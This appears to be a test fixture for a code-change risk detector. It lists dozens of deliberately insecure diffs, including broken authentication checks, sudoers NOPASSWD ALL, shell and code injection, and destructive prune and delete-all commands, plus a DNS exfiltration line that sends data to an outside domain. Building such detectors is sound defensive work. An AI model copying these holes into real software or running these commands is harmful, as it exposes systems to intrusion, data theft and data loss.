// A third later set of dangerous changes, written before its first run: it caught 24 of 53. What it missed changed the rules, so it
// counts as tuned since.
const change = (name, path, added, removed = [], more = {}) => ({ name, path, added, removed, ...more });

export const tunedThird = [
  // authentication
  change(
    'api key compared by prefix',
    'lib/api_auth.ex',
    ['    if String.starts_with?(stored, given), do: {:ok, user}'],
    ['    if Plug.Crypto.secure_compare(stored, given), do: {:ok, user}'],
  ),
  change(
    'biometric fallback',
    'App/LoginViewModel.swift',
    [
      '        context.evaluatePolicy(.deviceOwnerAuthentication, localizedReason: reason) { _, _ in self.login(user) }',
    ],
    [
      '        context.evaluatePolicy(.deviceOwnerAuthenticationWithBiometrics, localizedReason: reason) { ok, _ in if ok { self.login(user) } }',
    ],
  ),
  change(
    'oauth state not compared',
    'src/auth/callback.ts',
    ['  const tokens = await client.exchange(code);'],
    [
      '  if (query.state !== session.oauthState) throw new Error("state");',
      '  const tokens = await client.exchange(code);',
    ],
  ),
  change(
    'session fixed',
    'app/Http/Controllers/SessionController.php',
    [],
    ['        $request->session()->regenerate();'],
  ),
  // authorisation
  change('sudo for a group', 'packaging/sudoers.d/app', ['%app ALL=(ALL) NOPASSWD: ALL']),
  change(
    'superuser shortcut',
    'lib/perm.lua',
    ['  if user.role ~= nil then return true end'],
    ['  if user.role == "admin" then return true end'],
  ),
  change(
    'graphql field without directive',
    'src/schema.ts',
    ['    salary: Int'],
    ['    salary: Int @auth(requires: HR)'],
  ),
  change('bucket for everybody', 'infra/storage.py', ['    bucket.make_public(recursive=True)']),
  // secrets
  change('key file committed', 'certs/server.key', [
    '-----BEGIN PRIVATE KEY-----',
    'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7',
  ]),
  change('token in a shell trace', 'ci/deploy.sh', [
    'set -x',
    'curl -H "Authorization: token $DEPLOY_TOKEN" "$URL"',
  ]),
  change('secret in an exception', 'src/Vault.kt', [
    '        throw IllegalStateException("cannot open with secret $secret")',
  ]),
  // cryptography
  change(
    'signature of the wrong part',
    'src/verify.rs',
    ['    public_key.verify(&body[..16], &signature)?;'],
    ['    public_key.verify(&body, &signature)?;'],
  ),
  change(
    'seeded generator',
    'src/Tokens.cs',
    ['        var random = new Random(42); var token = random.Next().ToString("x");'],
    ['        var token = Convert.ToHexString(RandomNumberGenerator.GetBytes(32));'],
  ),
  change(
    'digest compared early',
    'lib/Digest.pm',
    ['    return $given eq $expected;'],
    ['    return constant_time_eq($given, $expected);'],
  ),
  change(
    'key length halved',
    'keys/gen.go',
    ['	key, err := rsa.GenerateKey(rand.Reader, 1024)'],
    ['	key, err := rsa.GenerateKey(rand.Reader, 4096)'],
  ),
  // payments
  change(
    'negative quantity',
    'src/cart/total.ts',
    ['  const totalCents = lines.reduce((sum, l) => sum + l.priceCents * l.quantity, 0);'],
    [
      '  if (lines.some((l) => l.quantity < 1)) throw new Error("quantity");',
      '  const totalCents = lines.reduce((sum, l) => sum + l.priceCents * l.quantity, 0);',
    ],
  ),
  change(
    'capture before the order',
    'app/services/checkout.rb',
    ['    gateway.capture(authorization)'],
    ['    order.save! && gateway.capture(authorization)'],
  ),
  // personal data
  change('location kept', 'app/src/main/java/Tracker.java', [
    '        store.save(user.getId(), location.getLatitude(), location.getLongitude());',
  ]),
  change('birthday in the address', 'src/share.js', [
    '  const link = `/card?name=${p.name}&date_of_birth=${p.date_of_birth}`;',
  ]),
  // deletion
  change('prune all', 'ops/clean.sh', ['docker system prune -af --volumes']),
  change('orphans', 'src/Cleanup.php', ['        array_map("unlink", glob($dir . "/*"));']),
  change(
    'keys of all tenants',
    'cache/clear.py',
    ['    redis.delete(*redis.keys("*"))'],
    ['    redis.delete(*redis.keys(f"{tenant}:*"))'],
  ),
  // parsing of untrusted input
  change(
    'shell in perl',
    'bin/thumb.pl',
    ['    `convert $file -resize 100 $out`;'],
    ["    system('convert', $file, '-resize', '100', $out);"],
  ),
  change(
    'stack buffer',
    'src/conf.c',
    ['    char line[64]; fscanf(f, "%s", line);'],
    ['    char line[64]; fscanf(f, "%63s", line);'],
  ),
  change('lua from a string', 'plugin/run.lua', ['  return loadstring(request.body)()']),
  change(
    'index from a packet',
    'src/table.cpp',
    ['    return table[index];'],
    ['    if (index >= table.size()) return nullptr;', '    return table[index];'],
  ),
  change(
    'raw fragment',
    'src/Comment.jsx',
    ['  return <p ref={(n) => { n.innerHTML = text; }} />;'],
    ['  return <p>{text}</p>;'],
  ),
  change('ldap filter', 'src/Directory.java', [
    '        String filter = "(uid=" + name + ")"; ctx.search(base, filter, controls);',
  ]),
  change('deserialised with types', 'src/Json.cs', [
    '        settings.TypeNameHandling = TypeNameHandling.All;',
  ]),
  change('header from a value', 'web/download.php', [
    '    header("Content-Disposition: attachment; filename=" . $_GET["name"]);',
  ]),
  // sandbox and permission code
  change(
    'user namespaces for all',
    'src/launch.rs',
    ['    args.push("--dev-bind"); args.push("/"); args.push("/");'],
    ['    args.push("--unshare-all");'],
  ),
  change(
    'electron asks nobody',
    'src/main/session.ts',
    ['  session.setPermissionRequestHandler((_, __, done) => done(true));'],
    ['  session.setPermissionRequestHandler((_, what, done) => done(allowed.has(what)));'],
  ),
  change('profile unconfined', 'deploy/pod.ts', [
    "  securityContext: { seccompProfile: { type: 'Unconfined' } },",
  ]),
  // build, CI, install script, guardrail, test, judge, vault, policy configuration
  change('continue on error', '.github/workflows/build.yml', ['        continue-on-error: true']),
  change(
    'checksum no longer asked',
    'Dockerfile',
    ['RUN curl -fsSL $URL | tar xz'],
    ['RUN curl -fsSL $URL -o a.tgz && sha256sum -c a.sum && tar xf a.tgz'],
  ),
  change(
    'type checks off',
    'tsconfig.base.json',
    ['    "noImplicitAny": false,'],
    ['    "noImplicitAny": true,'],
  ),
  change('lint of one folder', 'package.json', ['    "lint": "eslint src/a",'], ['    "lint": "eslint .",']),
  change('scenarios thinned', 'scenarios/refund.md', [], ['- a refund over the amount is refused']),
  // schema or data migration
  change('column in mongo', 'migrations/2026-02-rename.js', [
    "  await db.collection('users').updateMany({}, { $unset: { phone: '' } });",
  ]),
  change(
    'key changed',
    'db/schema.rb',
    ['    t.string "email", null: true'],
    ['    t.string "email", null: false'],
  ),
  // tests and suppressions
  change(
    'wait instead of ask',
    'test/e2e/cart.spec.ts',
    ['    await page.waitForTimeout(500);'],
    ["    await expect(page.getByText('19.00')).toBeVisible();"],
  ),
  change('mocked away', 'tests/test_pay.py', [], ['    assert gateway.charged == [1900]']),
  change('ignored in kotlin', 'src/main/kotlin/A.kt', ['@Suppress("UNCHECKED_CAST")']),
  change('unwrap allowed', 'src/io.rs', ['#[allow(clippy::unwrap_used)]']),
  // privileged surface
  change('a command that runs hooks', 'src/cli.ts', ["  command('exec-hook <file>')"], [], {
    surface: [{ kind: 'command', name: 'exec-hook', privileged: true, breaking: false, named: false }],
  }),
  change('a permission of the extension', 'manifest.json', ['    "<all_urls>",'], [], {
    surface: [{ kind: 'permission', name: '<all_urls>', privileged: true, breaking: false, named: false }],
  }),
  // new egress
  change('dns as a way out', 'src/ping.py', [
    '    requests.get("https://" + data + ".dns.lookup-stats.net")',
  ]),
  change('grpc to elsewhere', 'internal/rpc/dial.go', [
    '	conn, err := grpc.Dial("collector.obs-cloud.io:443", opts...)',
  ]),
  change('a second mirror', 'Sources/Fetch.swift', [
    '    let url = URL(string: "https://cdn.assets-mirror.app/pkg")!',
  ]),
  // binary content
  change('an archive', 'vendor-tools/tool.tar.gz', ['\u0000']),
  change('minified by hand', 'src/boot.ts', ['!function(){' + 'var a=0;'.repeat(400) + '}()']),
  // incomplete provenance
  change('rewritten history', 'src/b.py', ['    return 1'], [], {
    provenance: ['the recorded commit is not part of the branch any more'],
  }),
  change('somebody else committed', 'src/c.go', ['\tx++'], [], {
    provenance: ['2 of 4 commits of the result were not recorded by this run'],
  }),
];
